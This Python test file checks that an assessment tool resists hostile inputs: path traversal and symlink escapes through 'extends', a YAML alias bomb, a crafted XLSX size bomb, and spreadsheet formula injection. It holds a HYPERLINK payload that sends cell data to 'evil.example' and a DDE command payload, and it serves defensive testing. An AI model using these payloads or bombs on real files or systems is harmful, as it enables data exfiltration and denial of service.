"""Issue 17 for ``assess``: no path escapes through ``extends``, bounded YAML, clear messages for
bad method parameters and odd column names, no live formulas in what it writes, atomic outputs."""

from __future__ import annotations

import csv
import os
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest
import yaml

from innodrive.assessment.framework import load_framework
from innodrive.assessment.run import assess, write_result
from innodrive.errors import InputError, ValidationFailed

BASE = {
    "id": "h", "name": "测试", "version": "1", "effective": "2025-01-01",
    "method": [{"step": "normalise", "dset": "Raw", "method": "minmax"}, {"step": "aggregate"}],
    "aggregates": [{"code": "idx", "name": "指数"}],
    "indicators": [{"code": "a", "name": "甲指标", "parent": "idx"}, {"code": "b", "name": "乙指标", "parent": "idx"}],
}
DATA = "地区,a,b\n甲区,1,5\n乙区,2,3\n丙区,4,1\n"


def dump(path: Path, data: dict) -> Path:
    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    return path


def test_extends_cannot_leave_the_framework_folder(tmp_path):
    secret = dump(tmp_path / "secret.yaml", {**BASE, "name": "服务器上的机密"})
    user = tmp_path / "user"
    user.mkdir()
    from importlib import resources

    presets = Path(str(resources.files("innodrive.assessment.presets")))
    via_presets = os.path.relpath(secret.with_suffix(""), presets)  # the old loader appended ".yaml"
    for target in (via_presets, "../secret.yaml", str(secret), "../../../../../../" + str(secret).lstrip("/"),
                   "../../etc/x.yaml", "casted_index/../../x"):
        fw = dump(user / "fw.yaml", {"extends": target, "id": "u", "name": "u", "version": "1",
                                     "effective": "2025-01-01"})
        with pytest.raises(InputError, match="extends") as exc:
            load_framework(fw)
        assert "机密" not in str(exc.value)


def test_extends_through_a_symlink_pointing_outside_is_refused(tmp_path):
    dump(tmp_path / "secret.yaml", BASE)
    user = tmp_path / "user"
    user.mkdir()
    os.symlink(tmp_path / "secret.yaml", user / "base.yaml")
    fw = dump(user / "fw.yaml", {"extends": "base.yaml", "id": "u", "name": "u", "version": "1",
                                 "effective": "2025-01-01"})
    with pytest.raises(InputError, match="超出了允许的范围"):
        load_framework(fw)


def test_extends_by_preset_name_and_by_file_beside_it_still_work(tmp_path):
    (tmp_path / "common").mkdir()
    dump(tmp_path / "common" / "base.yaml", BASE)
    fw = dump(tmp_path / "fw.yaml", {"extends": "common/base.yaml", "id": "u", "name": "我的", "version": "2",
                                     "effective": "2025-01-01"})
    f = load_framework(fw)
    assert f.name == "我的" and f.indicators == ("a", "b")
    fw2 = dump(tmp_path / "fw2.yaml", {"extends": "casted_2000s_standards", "id": "u", "name": "u",
                                       "version": "1", "effective": "2025-01-01"})
    with pytest.raises(ValidationFailed):  # the preset asks for user values: refused with a list, not a crash
        load_framework(fw2)


def test_yaml_alias_bomb_is_refused_quickly(tmp_path):
    bomb = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
        f"{c}: &{c} [{','.join(['*' + p] * 9)}]\n" for p, c in zip("abcdefgh", "bcdefghi", strict=True))
    p = tmp_path / "bomb.yaml"
    p.write_text(bomb, encoding="utf-8")
    with pytest.raises(InputError, match="YAML"):
        load_framework(p)


def test_unknown_method_parameter_is_a_clear_message(tmp_path):
    for step in ({"step": "normalise", "dset": "Raw", "method": "minmax", "params": {"bogus": 1}},
                 {"step": "normalise", "dset": "Raw", "colour": "red"}):
        fw = dump(tmp_path / "fw.yaml", {**BASE, "method": [step, {"step": "aggregate"}]})
        with pytest.raises(ValidationFailed) as exc:
            load_framework(fw)
        assert "没有参数" in exc.value.problems[0].message and exc.value.file == "fw.yaml"
    fw = dump(tmp_path / "fw.yaml", {**BASE, "method": [{"step": "normalise", "dset": "Raw"},
                                                         {"step": "aggregate", "method": "geometric",
                                                          "params": {"zero_polic": "offset"}}]})
    with pytest.raises(ValidationFailed, match="没有参数"):
        load_framework(fw)


def run_cli(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "innodrive", *args], capture_output=True, text=True,
                          env={"PATH": "/usr/bin:/bin", "COLUMNS": "200"})


def test_rich_markup_in_a_column_name_does_not_abort(tmp_path):
    fw = dump(tmp_path / "fw.yaml", BASE)
    data = tmp_path / "d.csv"
    data.write_text("地区,a,b,[/x],[bold]y\n甲区,1,5,1,2\n乙区,2,3,3,4\n丙区,4,1,5,6\n", encoding="utf-8")
    out = tmp_path / "r.xlsx"
    r = run_cli("assess", str(fw), str(data), "--out", str(out))
    assert r.returncode == 0, r.stderr
    assert out.exists() and "[/x]" in r.stderr


HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A2,\"点击\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "=cmd|' /C calc'!A0"]


def _hostile_run(tmp_path):
    fw = {**BASE, "name": HOSTILE[0], "notes": HOSTILE[1], "source": HOSTILE[2],
          "aggregates": [{"code": "idx", "name": HOSTILE[3]}],
          "indicators": [{"code": "a", "name": HOSTILE[4], "parent": "idx"},
                         {"code": "b", "name": HOSTILE[5], "parent": "idx"}]}
    f = dump(tmp_path / "fw.yaml", fw)
    data = tmp_path / "d.csv"
    data.write_text("地区,a,b\n" + "".join(f'"{h.replace(chr(34), chr(34) * 2)}",{i},{9 - i}\n'
                                          for i, h in enumerate(HOSTILE)), encoding="utf-8")
    return assess(f, data)


def test_no_formula_reaches_the_xlsx(tmp_path):
    res = _hostile_run(tmp_path)
    out = tmp_path / "r.xlsx"
    write_result(res, out)
    wb = openpyxl.load_workbook(out)
    seen = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and any(h in cell.value for h in HOSTILE):
                    seen += 1
                    assert not cell.value.startswith(("=", "+", "-", "@", "\t"))
    assert seen > 0  # the hostile names are there, as text


def test_no_formula_reaches_the_csv(tmp_path):
    res = _hostile_run(tmp_path)
    out = tmp_path / "r.csv"
    write_result(res, out)
    with out.open(encoding="utf-8-sig", newline="") as f:
        cells = [c for row in csv.reader(f) for c in row]
    texts = [c for c in cells if c and not _is_number(c)]
    assert any("HYPERLINK" in c for c in texts)
    assert not [c for c in texts if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


def _is_number(s: str) -> bool:
    try:
        float(s)
    except ValueError:
        return False
    return True


def test_outputs_replace_a_symlink_instead_of_writing_through_it(tmp_path):
    f = dump(tmp_path / "fw.yaml", BASE)
    data = tmp_path / "d.csv"
    data.write_text(DATA, encoding="utf-8")
    res = assess(f, data)
    victim = tmp_path / "victim.txt"
    victim.write_text("不能被覆盖", encoding="utf-8")
    for name in ("r.xlsx", "r.csv"):
        link = tmp_path / name
        os.symlink(victim, link)
        write_result(res, link)
        assert victim.read_text(encoding="utf-8") == "不能被覆盖"
        assert not link.is_symlink()


def _bomb_xlsx() -> bytes:
    import io
    import zipfile

    wb = openpyxl.Workbook()
    wb.active.append(["地区", "a", "b"])
    buf = io.BytesIO()
    wb.save(buf)
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            body = src.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                body = body.replace(b'<dimension ref="A1:C1"/>', b'<dimension ref="A1:C20000000"/>')
                body = body.replace(b"</sheetData>", b"</sheetData>" + b" " * (8 * 1024 * 1024))
            z.writestr(info.filename, body)
    return out.getvalue()


def test_xlsx_bomb_is_a_clear_message_not_a_traceback(tmp_path):
    import time

    f = dump(tmp_path / "fw.yaml", BASE)
    bomb = tmp_path / "d.xlsx"
    bomb.write_bytes(_bomb_xlsx())
    start = time.perf_counter()
    with pytest.raises(InputError, match="20,000,000"):
        assess(f, bomb)
    assert time.perf_counter() - start < 10
    r = run_cli("assess", str(f), str(bomb))
    assert r.returncode == 2 and "Traceback" not in r.stderr and "内部错误" not in r.stderr
    assert "d.xlsx" in r.stderr
